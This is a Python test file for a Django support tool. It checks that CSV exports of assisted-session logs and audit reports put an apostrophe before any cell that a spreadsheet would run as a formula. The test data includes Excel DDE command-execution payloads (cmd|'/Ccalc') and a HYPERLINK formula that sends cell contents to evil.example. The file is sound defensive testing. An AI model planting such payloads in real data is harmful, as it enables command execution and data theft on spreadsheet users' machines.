"""CSV exports neutralise formula prefixes (issue 11, point 12): a cell that a spreadsheet would
run as a formula (starting with =, +, -, @, tab or carriage return) is written with a leading
apostrophe; every other cell is written unchanged."""

import pytest
from django.test import Client
from django.urls import reverse

from login_as_customer.models import AssistedSession
from shopassist.audit.exports import neutralise_cell
from shopassist.audit.writer import record
from shopassist.customers.models import Customer
from tests.audit.helpers import csv_rows
from tests.login_as_customer.assisted import start

LOG = reverse("admin:login_as_customer_log")
REPORT = reverse("admin:audit_report")
# A customer chooses their e-mail: this one is valid and is Excel's classic DDE payload.
FORMULA_EMAIL = "=cmd|'/Ccalc'!A0@example.com"
FORMULA_REASONS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "+cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
]
# Cells the web forms would strip or refuse, written as the log stores names "as they were".
WHITESPACE_NAMES = ["\tx", "\rx"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ticket #4242", "Ticket #4242"),
        ("a=b", "a=b"),
        ("jane.doe@example.com", "jane.doe@example.com"),
        ("'already", "'already"),
        ("", ""),
        (42, "42"),
        (None, None),
    ],
)
def test_a_cell_gets_an_apostrophe_only_when_it_would_start_a_formula(value, written):
    assert neutralise_cell(value) == written


@pytest.fixture
def formula_customer(db, demo):
    """A customer who registered on the storefront with a formula as e-mail, and consented."""
    response = Client().post(
        "/en/customer/account/create/",
        {
            "first_name": "=HYPERLINK(A1)",
            "last_name": "+Lovelace",
            "email": FORMULA_EMAIL,
            "password": "Analytical-Engine-1843",
            "password_confirmation": "Analytical-Engine-1843",
            "assistance-allow": "on",
        },
    )
    assert response.status_code == 302, response.content[:800]
    return Customer.objects.get(email=FORMULA_EMAIL.lower())


@pytest.fixture
def formula_sessions(support_client, formula_customer, jane):
    """Sessions started through the real start POST: formula reasons, one ordinary one."""
    sessions = {}
    for reason in FORMULA_REASONS:
        assert start(support_client, formula_customer, reason=reason).status_code == 200
        sessions[reason] = AssistedSession.objects.latest("id")
    assert start(support_client, jane, reason="Ticket #4242").status_code == 200
    sessions["ordinary"] = AssistedSession.objects.latest("id")
    return sessions


@pytest.fixture
def auditor_client(auditor, admin_client_for):
    return admin_client_for(auditor)


def _by_id(header, rows) -> dict[int, dict]:
    return {int(row[0]): dict(zip(header, row, strict=True)) for row in rows}


def test_the_session_log_export_neutralises_customer_and_staff_text(
    auditor_client, formula_sessions, formula_customer
):
    header, *rows = csv_rows(auditor_client.get(LOG, {"export": "csv"}))
    exported = _by_id(header, rows)

    for reason in FORMULA_REASONS:
        row = exported[formula_sessions[reason].pk]
        assert row["reason"] == "'" + reason
        assert row["customer_email"] == "'" + formula_customer.email
        assert row["customer_id"] == str(formula_customer.pk)
        assert row["admin_username"] == "support"
    ordinary = exported[formula_sessions["ordinary"].pk]
    assert ordinary["reason"] == "Ticket #4242"
    assert ordinary["customer_email"] == "jane.doe@example.com"
    assert ordinary["admin_username"] == "support"
    # The database keeps the values as they were: only the file is neutralised.
    assert AssistedSession.objects.get(pk=formula_sessions["+cmd"].pk).reason == "+cmd"


def test_the_action_report_export_neutralises_every_text_cell(
    auditor_client, formula_sessions, formula_customer
):
    for name in WHITESPACE_NAMES + FORMULA_REASONS:
        record(action_group="admin", action="test.formula", admin_username=name)

    header, *rows = csv_rows(auditor_client.get(REPORT, {"export": "csv"}))
    entries = list(_by_id(header, rows).values())

    customer_cells = {
        e["customer_email"] for e in entries if e["customer_id"] == str(formula_customer.pk)
    }
    assert customer_cells == {"'" + formula_customer.email}
    names = [e["admin_username"] for e in entries if e["action"] == "test.formula"]
    assert sorted(names) == sorted("'" + name for name in WHITESPACE_NAMES + FORMULA_REASONS)
    starts = [e for e in entries if e["action"] == "start" and e["customer_id"]]
    assert starts and all(e["details"].startswith("{") for e in starts)
    jane_start = next(
        e for e in starts if e["assisted_session_id"] == str(formula_sessions["ordinary"].pk)
    )
    assert jane_start["customer_email"] == "jane.doe@example.com"
    assert jane_start["admin_username"] == "support"
    assert jane_start["action_group"] == "login_as_customer"
    for row in entries:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
